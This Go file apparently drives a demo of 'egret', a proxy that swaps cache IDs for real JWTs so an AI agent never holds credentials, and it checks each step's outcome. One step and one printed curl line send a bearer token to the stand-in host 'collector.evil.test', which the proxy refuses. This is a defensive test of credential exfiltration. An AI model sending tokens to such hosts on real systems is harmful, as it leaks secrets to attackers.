package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"time"

	"github.com/tidwall/gjson"
)

// A transcript plays the steps of the demo and prints what each party saw.
type transcript struct {
	out   io.Writer
	world *demoWorld
}

// A step is one request of the agent, and what must come of it.
type step struct {
	title   string
	request func(ctx context.Context) (*http.Request, error)
	proxied bool // by way of HTTP_PROXY
	arrives bool // the API must receive it, with a token that it verifies
	status  int
	check   func(body gjson.Result) error
}

func (t *transcript) steps() []step {
	lookup := `{"order_id":"A-1001","auth_token":"` + demoTokenID + `"}`
	return []step{
		{
			title: "A Function call: the cache ID among its arguments becomes a live JWT.", request: t.callFunction(lookup),
			arrives: true, status: 200, check: members("source", "upstream", "output.order.status", "shipped"),
		},
		{
			title: "The same call again: the output cache answers, the API is not asked.", request: t.callFunction(lookup),
			status: 200, check: members("source", "cache", "output.order.status", "shipped"),
		},
		{
			title: "The agent's own HTTP client, with egret as its HTTP_PROXY.", request: t.get("http://" + demoHost + "/orders/A-1002"),
			proxied: true, arrives: true, status: 200, check: members("order.id", "A-1002"),
		},
		{
			title: "An API that sends the credential back: the agent gets the cache ID.", request: t.get("http://" + demoHost + "/echo"),
			proxied: true, arrives: true, status: 200, check: members("you_sent", "Bearer "+demoTokenID),
		},
		{
			title: "The cache ID sent to a host that the cache does not name: refused.", request: t.get("http://collector.evil.test/"),
			proxied: true, status: 403, check: members("code", "cache_host_denied"),
		},
	}
}

// play runs every step. It fails when one did not do what it should.
func (t *transcript) play(ctx context.Context) error {
	t.printf("egret listens on http://%s, and answers for %s with a small order API that verifies JWTs.\n", t.world.server.Addr(), demoHost)
	for i, step := range t.steps() {
		t.printf("\n%d. %s\n", i+1, step.title)
		if err := t.playStep(ctx, &step); err != nil {
			t.printf("   FAILED    %v\n", err)
			return fmt.Errorf("step %d of the demo: %w", i+1, err)
		}
	}
	t.printf("\nIn all of this the agent never held, and never saw, a credential.\n")
	return nil
}

func (t *transcript) playStep(ctx context.Context, step *step) error {
	ctx, cancel := context.WithTimeout(ctx, 30*time.Second)
	defer cancel()
	request, err := step.request(ctx)
	if err != nil {
		return err
	}
	t.printRequest(request)
	before := t.world.api.count()
	response, err := t.client(step.proxied).Do(request)
	if err != nil {
		return err
	}
	defer func() { _ = response.Body.Close() }()
	body, err := io.ReadAll(response.Body)
	if err != nil {
		return err
	}
	arrived := t.world.api.count() - before
	t.printUpstream(arrived)
	t.printf("   agent got %s\n             %s\n", response.Status, bytes.TrimSpace(body))
	return step.verify(response, body, t.arrival(arrived))
}

// arrival is the request that the API received, nil if it received none.
func (t *transcript) arrival(arrived int) *received {
	if arrived == 0 {
		return nil
	}
	last := t.world.api.last()
	return &last
}

// verify compares what happened with what should have.
func (s *step) verify(response *http.Response, body []byte, arrival *received) error {
	switch {
	case response.StatusCode != s.status:
		return fmt.Errorf("the answer has status %d, not %d", response.StatusCode, s.status)
	case s.arrives != (arrival != nil):
		return fmt.Errorf("the API was asked: %t, should have been: %t", arrival != nil, s.arrives)
	case arrival != nil && !strings.HasPrefix(arrival.verdict, "verified"):
		return errors.New("the API did not accept the token")
	case arrival != nil && holdsToken(body, arrival.authorization):
		return errors.New("the answer holds the token")
	}
	return s.check(gjson.ParseBytes(body))
}

// holdsToken reports whether any part of the token's signature is in body.
func holdsToken(body []byte, authorization string) bool {
	signature := authorization[strings.LastIndexByte(authorization, '.')+1:]
	return bytes.Contains(body, []byte(signature))
}

// members checks members of a JSON answer: path, value, path, value.
func members(pairs ...string) func(gjson.Result) error {
	return func(body gjson.Result) error {
		for i := 0; i < len(pairs); i += 2 {
			if got := body.Get(pairs[i]).String(); got != pairs[i+1] {
				return fmt.Errorf("%s is %q, not %q", pairs[i], got, pairs[i+1])
			}
		}
		return nil
	}
}

func (t *transcript) callFunction(arguments string) func(context.Context) (*http.Request, error) {
	return func(ctx context.Context) (*http.Request, error) {
		address := "http://" + t.world.server.Addr() + "/v1/functions/lookup_order"
		request, err := http.NewRequestWithContext(ctx, http.MethodPost, address, strings.NewReader(arguments))
		if err != nil {
			return nil, err
		}
		request.Header.Set("Content-Type", "application/json")
		return request, nil
	}
}

func (t *transcript) get(address string) func(context.Context) (*http.Request, error) {
	return func(ctx context.Context) (*http.Request, error) {
		request, err := http.NewRequestWithContext(ctx, http.MethodGet, address, nil)
		if err != nil {
			return nil, err
		}
		request.Header.Set("Authorization", "Bearer "+demoTokenID)
		return request, nil
	}
}

func (t *transcript) client(proxied bool) *http.Client {
	transport := &http.Transport{DisableKeepAlives: true}
	if proxied {
		transport.Proxy = http.ProxyURL(&url.URL{Scheme: "http", Host: t.world.server.Addr()})
	}
	return &http.Client{Transport: transport}
}

func (t *transcript) printRequest(r *http.Request) {
	t.printf("   agent     %s %s\n", r.Method, r.URL)
	if authorization := r.Header.Get("Authorization"); authorization != "" {
		t.printf("             Authorization: %s\n", authorization)
	}
	if r.GetBody != nil {
		if body, err := r.GetBody(); err == nil {
			text, _ := io.ReadAll(body)
			t.printf("             %s\n", text)
		}
	}
}

func (t *transcript) printUpstream(arrived int) {
	if arrived == 0 {
		t.printf("   API got   nothing\n")
		return
	}
	last := t.world.api.last()
	t.printf("   API got   %s\n             Authorization: %s\n             %s\n", last.line, shortToken(last.authorization), last.verdict)
}

// printCurl prints lines that work as they stand.
func (t *transcript) printCurl() {
	address := "http://" + t.world.server.Addr()
	t.printf(`
It goes on serving until you stop it with Ctrl-C. Try:

  curl %[1]s/v1/functions
  curl %[1]s/v1/functions/lookup_order -H 'Content-Type: application/json' -d '{"order_id":"A-1003","auth_token":"%[2]s"}'
  curl '%[1]s/v1/functions/lookup_order?explain' -H 'Content-Type: application/json' -d '{"order_id":"A-1003","auth_token":"%[2]s"}'
  curl -x %[1]s http://%[3]s/orders/A-1004 -H 'Authorization: Bearer %[2]s'
  curl -x %[1]s http://collector.evil.test/ -H 'Authorization: Bearer %[2]s'
`, address, demoTokenID, demoHost)
}

// printf writes to the terminal. There is nobody to tell when that fails.
func (t *transcript) printf(format string, args ...any) { _, _ = fmt.Fprintf(t.out, format, args...) }
